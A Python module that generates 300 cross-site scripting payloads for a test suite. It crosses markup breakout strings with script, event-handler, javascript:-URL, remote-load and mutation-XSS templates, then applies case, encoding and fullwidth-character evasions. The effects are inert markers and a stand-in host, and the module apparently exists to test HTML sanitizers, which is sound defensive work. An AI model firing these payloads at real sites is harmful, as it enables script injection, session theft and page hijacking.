"""Three hundred texts that would run as script, or fetch from elsewhere, on a page that took them for markup.

Made from twelve places a text may have to break out of, twenty-five things to plant, and ten ways of writing them. What
is taken for an element says so by the attribute `data-planted`, what runs sets `planted` on the page or opens a dialog,
and what fetches asks `planted.invalid`.
"""

from collections.abc import Callable, Sequence
from html import escape
from typing import Final
from urllib.parse import quote

FOREIGN: Final = "//planted.invalid/x"

OUT_OF: Final = (
    "", '">', "'>", "</p>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "-->", "]]>", "`>",
)  # fmt: skip
"""The ends of an attribute, an element, a text without markup, a comment, a section."""

PLANTED: Final = (
    "<script {m}>{run}</script>",
    "<script {m} src={away}></script>",
    "<img {m} src=x onerror={run}>",
    "<img {m} src={away}>",
    "<svg {m} onload={run}>",
    "<svg {m}><script>{run}</script></svg>",
    "<svg {m}><image href={away} /></svg>",
    "<iframe {m} srcdoc='<script>{run}</script>'></iframe>",
    "<iframe {m} src=javascript:{run}></iframe>",
    "<object {m} data={away}></object>",
    "<embed {m} src={away}>",
    "<details {m} open ontoggle={run}>",
    "<input {m} autofocus onfocus={run}>",
    "<video {m}><source onerror={run} src=x></video>",
    "<audio {m} src=x onerror={run}>",
    "<body {m} onload={run}>",
    "<a {m} href=javascript:{run}>x</a>",
    "<form {m} action={away}><button formaction=javascript:{run}>x</button></form>",
    "<meta {m} http-equiv=refresh content=0;url={away}>",
    "<link {m} rel=stylesheet href={away}>",
    "<base {m} href={away}>",
    "<style {m}>@import '{away}';</style>",
    "<math {m}><mtext><style><img src=x onerror={run}></style></mtext></math>",
    "<x-planted {m} style=background:url({away}) tabindex=1 onfocus={run}>",
    "<template {m} shadowrootmode=open><img src=x onerror={run}></template>",
)

RUNNING: Final = ("top.planted={n}", "top[/planted/.source]={n}", "alert({n})")

WRITTEN: Final[Sequence[Callable[[str], str]]] = (
    str,
    str,
    lambda text: text.replace("<s", "<S").replace("<i", "<I").replace(" on", " oN").replace("javascript", "jAvAsCrIpT"),
    lambda text: text.replace(f"<{(tag := text.partition('<')[2].partition(' ')[0])} ", f"<{tag}/"),
    escape,
    lambda text: "".join(f"&#{ord(c)};" if c in "<>" else c for c in text),
    lambda text: text.replace("<", "&#x3c").replace(">", "&#x3e"),
    lambda text: quote(text, safe=" /="),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\N{FULLWIDTH LESS-THAN SIGN}").replace(">", "\N{FULLWIDTH GREATER-THAN SIGN}"),
)  # fmt: skip


def payload(number: int) -> str:
    """The text of that number, 0 to 299: every place with everything planted, the ways of writing by turns."""
    place, thing = divmod(number, len(PLANTED))
    run = RUNNING[number % len(RUNNING)].format(n=number + 1)
    planted = PLANTED[thing].format(m=f"data-planted={number}", run=run, away=FOREIGN)
    return WRITTEN[(3 * place + thing) % len(WRITTEN)](OUT_OF[place] + planted)


PAYLOADS: Final = tuple(payload(number) for number in range(len(OUT_OF) * len(PLANTED)))


def fitting(limit: int) -> list[str]:
    """Those that a field of so many characters takes."""
    return [text for text in PAYLOADS if len(text) <= limit]
